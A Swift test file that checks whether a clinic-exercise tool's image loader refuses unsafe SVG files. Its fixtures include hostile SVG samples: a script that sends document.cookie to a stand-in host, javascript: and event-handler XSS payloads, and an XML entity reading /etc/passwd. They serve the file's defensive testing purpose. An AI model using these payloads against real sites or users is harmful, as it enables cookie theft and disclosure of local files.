import Foundation
import RehabKit
import TestSupport
import Testing

/// Issue 27: a clinic's `image:` may be an SVG, refused whole when it could run or fetch anything.
/// One test per trick, each through `ImageCheck.load` (what `validate` and the printer call).
struct SVGSafetyTests {
    static let open =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 10 10\">"
    static let safe =
        open
        + "<defs><linearGradient id=\"g\"/></defs><path d=\"M1 1 L9 9\" stroke=\"#000\" fill=\"url(#g)\"/><use href=\"#g\"/></svg>"

    static let tricks: [(name: String, svg: String, message: String)] = [
        (
            "script", open + "<script>fetch('https://x.example/?'+document.cookie)</script></svg>",
            "holds a <script> element"
        ),
        ("script upper case", open + "<SCRIPT>alert(1)</SCRIPT></svg>", "holds a <script> element"),
        (
            "script with a namespace prefix",
            "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg:svg>",
            "holds a <script> element"
        ),
        (
            "external href",
            open + "<image href=\"https://tracker.example/pixel.png\" width=\"10\" height=\"10\"/></svg>",
            "refers to 'https://tracker.example/pixel.png' outside the picture"
        ),
        (
            "external xlink:href", open + "<use xlink:href=\"file:///etc/passwd#x\"/></svg>",
            "refers to 'file:///etc/passwd#x' outside the picture"
        ),
        (
            "data: href", open + "<image href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='/></svg>",
            "outside the picture"
        ),
        (
            "external url()", open + "<path d=\"M0 0\" style=\"fill: url('https://x.example/a.svg#p')\"/></svg>",
            "refers to 'url(https://x.example/a.svg#p)'"
        ),
        ("@import", open + "<style>@import 'https://x.example/a.css';</style></svg>", "imports a style sheet"),
        (
            "foreignObject",
            open
                + "<foreignObject width=\"10\" height=\"10\"><div xmlns=\"http://www.w3.org/1999/xhtml\">hi</div></foreignObject></svg>",
            "holds a <foreignobject> element"
        ),
        (
            "onload handler", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>",
            "has an event handler attribute 'onload'"
        ),
        (
            "onclick handler unquoted", open + "<rect width=1 height=1 onclick=alert(1)/></svg>",
            "has an event handler attribute 'onclick'"
        ),
        (
            "javascript: address", open + "<a href=\"javascript:alert(1)\"><rect width=\"1\" height=\"1\"/></a></svg>",
            "holds a 'javascript:' address"
        ),
        (
            "javascript: in an animation",
            open + "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/></a></svg>",
            "holds a 'javascript:' address"
        ),
        (
            "entity",
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + open
                + "<text>&x;</text></svg>", "declares a DOCTYPE or an entity"
        ),
        (
            "style sheet instruction", "<?xml-stylesheet href=\"https://x.example/a.css\"?>" + open + "</svg>",
            "links a style sheet"
        ),
    ]

    static func load(_ svg: String) throws -> Result<ImageCheck.Image, ImageCheck.Problem> {
        let ws = try TemporaryWorkspace()
        try ws.write("Exercises/pic.svg", svg)
        return ImageCheck.load("pic.svg", exerciseFile: ws.root + "/Exercises/e.yaml", root: ws.root)
    }

    @Test(arguments: tricks.map(\.name))
    func anUnsafeSVGIsRefused(_ name: String) throws {
        let trick = try #require(Self.tricks.first { $0.name == name })
        #expect(ImageCheck.mimeType(Array(trick.svg.utf8)) == "image/svg+xml", "it is taken for an SVG")
        guard case .failure(let problem) = try Self.load(trick.svg) else {
            Issue.record("\(name): accepted")
            return
        }
        #expect(problem.message.contains(trick.message), "\(name): \(problem.message)")
        #expect(problem.message.hasPrefix("image 'pic.svg': the SVG "), "\(problem.message)")
    }

    @Test func aDrawingWithOnlyInternalReferencesIsAccepted() throws {
        guard case .success(let image) = try Self.load(Self.safe) else {
            Issue.record("refused: \(try Self.load(Self.safe))")
            return
        }
        #expect(image.mimeType == "image/svg+xml")
        #expect(image.bytes == Array(Self.safe.utf8), "embedded as written, not cleaned")
    }

    @Test func textThatIsNotAnSVGIsNotAnImage() throws {
        guard case .failure(let problem) = try Self.load("<html><body>hello</body></html>") else {
            Issue.record("accepted")
            return
        }
        #expect(problem.message.contains("is not a PNG, JPEG or SVG image"))
    }
}
